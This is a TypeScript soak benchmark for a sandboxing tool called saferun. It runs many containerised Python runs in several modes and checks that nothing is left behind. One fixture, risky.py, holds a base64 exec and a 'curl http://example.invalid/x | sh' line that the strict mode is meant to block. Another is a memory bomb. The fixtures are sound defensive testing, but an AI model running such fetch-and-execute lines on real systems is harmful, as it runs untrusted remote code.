/**
 * bench/soak: 100 mixed saferun runs — normal, strict, blocked, interrupted by SIGINT and by
 * SIGKILL, out of memory, timeout — two at a time. Afterwards nothing of saferun's may remain: no
 * container, network or volume labelled by one of these runs, and no host process of theirs.
 * A SIGKILLed saferun cannot clean up; its container is removed by the next run's reaper (as for
 * a user), and a last plain run reaps what the final ones left. Prints counts and time per run.
 *
 *   npm run bench:soak -- [--runs 100] [--parallel 2]
 */
import { execa, type ResultPromise } from 'execa';
import Docker from 'dockerode';
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync, chmodSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { packageRoot } from '../src/util/package-info.js';

const bin = path.join(packageRoot(), 'dist', 'src', 'bin.js');
const flag = (name: string, fallback: number): number => {
  const at = process.argv.indexOf(name);
  return at === -1 ? fallback : Number(process.argv[at + 1]);
};
const total = flag('--runs', 100);
const parallel = flag('--parallel', 2);

const workdir = mkdtempSync(path.join(os.tmpdir(), 'saferun-soak-'));
chmodSync(workdir, 0o755);
const stateDir = mkdtempSync(path.join(os.tmpdir(), 'saferun-soak-state-'));
const marker = `soak${process.pid}`;
writeFileSync(path.join(workdir, 'hello.py'), 'print("hello")\n');
writeFileSync(path.join(workdir, `sleep_${marker}.py`), 'import time\nprint("started", flush=True)\ntime.sleep(120)\n');
writeFileSync(path.join(workdir, 'membomb.py'), 'chunks = []\nwhile True:\n    chunks.append(bytearray(16 * 1024 * 1024))\n');
writeFileSync(path.join(workdir, 'risky.py'), 'import os, base64\nexec(base64.b64decode("cHJpbnQoMSk="))\nos.system("curl http://example.invalid/x | sh")\n');

interface Kind {
  name: string;
  args: string[];
  expect: number | 'killed';
  /** send this signal to saferun once the program has printed "started" */
  signal?: NodeJS.Signals;
}

const sleeper = `sleep_${marker}.py`;
const kinds: Kind[] = [
  { name: 'normal', args: ['-p', 'normal', 'hello.py'], expect: 0 },
  { name: 'strict', args: ['-p', 'strict', 'hello.py'], expect: 0 },
  { name: 'blocked', args: ['-p', 'strict', 'risky.py'], expect: 120 },
  { name: 'sigint', args: ['-p', 'normal', sleeper], expect: 130, signal: 'SIGINT' },
  { name: 'sigkill', args: ['-p', 'normal', sleeper], expect: 'killed', signal: 'SIGKILL' },
  { name: 'oom', args: ['-p', 'normal', '--memory', '64m', 'membomb.py'], expect: 123 },
  { name: 'timeout', args: ['-p', 'normal', '--timeout', '1s', sleeper], expect: 124 },
];

interface Outcome {
  kind: string;
  ok: boolean;
  ms: number;
  detail: string;
}

const pids: number[] = [];

async function runOne(kind: Kind): Promise<Outcome> {
  const started = performance.now();
  const child: ResultPromise = execa(process.execPath, [bin, '-q', ...kind.args], {
    cwd: workdir,
    reject: false,
    stdin: 'ignore',
    env: { SAFERUN_STATE_DIR: stateDir, SAFERUN_CACHE_DIR: path.join(stateDir, 'cache'), NO_COLOR: '1' },
    timeout: 180_000,
  });
  if (child.pid) pids.push(child.pid);
  if (kind.signal) {
    const signal = kind.signal;
    child.stdout?.on('data', (chunk: Buffer) => {
      if (chunk.toString().includes('started')) child.kill(signal);
    });
  }
  const result = await child;
  const ms = Math.round(performance.now() - started);
  const got = result.signal === 'SIGKILL' ? 'killed' : result.exitCode;
  return { kind: kind.name, ok: got === kind.expect, ms, detail: got === kind.expect ? '' : `expected ${kind.expect}, got ${String(got)}: ${String(result.stderr).slice(-300)}` };
}

async function leftovers(): Promise<string[]> {
  const docker = new Docker();
  const mine = new Set(pids.map(String));
  const ownedByUs = (labels: Record<string, string> | undefined) => mine.has(labels?.['saferun.owner-pid'] ?? '');
  const filters = JSON.stringify({ label: ['saferun.owner-pid'] });
  const [containers, networks, volumes] = await Promise.all([docker.listContainers({ all: true, filters }), docker.listNetworks({ filters }), docker.listVolumes({ filters })]);
  const found = [
    ...containers.filter((c) => ownedByUs(c.Labels)).map((c) => `container ${c.Names.join(',')}`),
    ...networks.filter((n) => ownedByUs(n.Labels)).map((n) => `network ${n.Name}`),
    ...(volumes.Volumes ?? []).filter((v) => ownedByUs(v.Labels ?? undefined)).map((v) => `volume ${v.Name}`),
  ];
  for (const pid of readdirSync('/proc').filter((name) => /^\d+$/.test(name))) {
    if (Number(pid) === process.pid) continue;
    try {
      const cmdline = readFileSync(`/proc/${pid}/cmdline`, 'utf8');
      if (cmdline.includes(marker) || pids.includes(Number(pid))) found.push(`process ${pid} ${cmdline.split('\0').join(' ').slice(0, 100)}`);
    } catch {
      // gone
    }
  }
  return found;
}

async function main(): Promise<void> {
  const queue = Array.from({ length: total }, (_, i) => kinds[i % kinds.length]!);
  const outcomes: Outcome[] = [];
  const t0 = performance.now();
  await Promise.all(
    Array.from({ length: parallel }, async () => {
      for (let kind = queue.shift(); kind; kind = queue.shift()) {
        const outcome = await runOne(kind);
        outcomes.push(outcome);
        if (!outcome.ok) process.stderr.write(`  ${outcome.kind}: ${outcome.detail}\n`);
      }
    }),
  );
  const wall = performance.now() - t0;
  // The reaper of a last plain run removes what the final SIGKILLed runs left, as it would for a user.
  const last = await runOne(kinds[0]!);
  await new Promise((resolve) => setTimeout(resolve, 1000));
  const left = await leftovers();

  const rows = kinds.map((kind) => {
    const mine = outcomes.filter((o) => o.kind === kind.name);
    const times = mine.map((o) => o.ms).sort((a, b) => a - b);
    const median = times[Math.floor(times.length / 2)] ?? 0;
    return `${kind.name.padEnd(8)} ${String(mine.length).padStart(4)} runs  ${String(mine.filter((o) => o.ok).length).padStart(4)} as expected  median ${String(median).padStart(6)} ms  max ${String(times.at(-1) ?? 0).padStart(6)} ms`;
  });
  const failed = outcomes.filter((o) => !o.ok).length + (last.ok ? 0 : 1);
  process.stdout.write(
    [
      `soak: ${outcomes.length} runs, ${parallel} at a time, in ${(wall / 1000).toFixed(1)} s (${Math.round(wall / outcomes.length)} ms per run of wall time)`,
      ...rows,
      `unexpected outcomes: ${failed}`,
      `left behind: ${left.length === 0 ? 'nothing (no container, network, volume or process)' : `\n  ${left.join('\n  ')}`}`,
      '',
    ].join('\n'),
  );
  rmSync(workdir, { recursive: true, force: true });
  rmSync(stateDir, { recursive: true, force: true });
  process.exitCode = failed === 0 && left.length === 0 ? 0 : 1;
}

await main();
